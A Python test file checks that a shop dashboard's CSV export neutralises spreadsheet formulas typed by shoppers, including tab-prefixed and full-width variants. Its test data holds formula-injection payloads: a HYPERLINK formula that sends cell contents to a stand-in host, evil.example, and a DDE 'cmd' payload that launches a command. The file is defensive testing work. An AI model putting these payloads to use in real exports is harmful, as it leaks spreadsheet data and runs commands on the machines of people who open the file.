"""The dashboard's CSV export never hands a spreadsheet a formula from what a shopper typed.
Chat text keeps tabs and line breaks (shop_channels/validation.py), and spreadsheets skip
leading blanks: "\\t=HYPERLINK(…)" went out as it was (only a first character of = + - @ was
neutralised), and so did the full-width ＝ a Chinese input method types."""
from __future__ import annotations

import csv
import io

from analytics import dashboard, store
from tests.support.analytics import DAY, T0, user

TYPED = ['\t=HYPERLINK("http://evil.example/?"&A1,"点我")', "\r=1+1", " =cmd|' /C calc'!A0", "\n@SUM(1)",
         "＝1+1", "＋1", "=2+3"]


def test_a_shoppers_formula_is_neutralised_in_the_csv(analytics_engine):
    with analytics_engine.begin() as connection:
        for n, text in enumerate(TYPED):
            store.ingest(connection, user(f"shopper{n}", T0 + n, text, "nlu_fallback"))
    data = dashboard.build(analytics_engine, None, DAY, DAY)
    rows = [row for row in csv.reader(io.StringIO(dashboard.to_csv(data))) if row[0] == "not_understood"]
    assert len(rows) == len(TYPED)
    for row in rows:
        assert row[1].startswith("'"), row[1]
        assert row[1][1:] in TYPED          # the text itself kept, after the quote


def test_numbers_and_plain_text_are_left_alone():
    assert dashboard._cell("-1") == "-1" and dashboard._cell("+3") == "+3" and dashboard._cell(0.25) == "0.25"
    assert dashboard._cell("查订单 -5") == "查订单 -5" and dashboard._cell(None) == ""
